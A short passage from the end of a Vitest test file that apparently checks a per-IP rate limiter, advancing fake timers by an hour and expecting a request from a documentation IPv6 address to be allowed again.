    ]).toEqual([true, false, true, true, false]);
    vi.advanceTimersByTime(60 * 60_000);
    expect(await press("2001:db8:5:3::1")).toBe(true);
  });
});
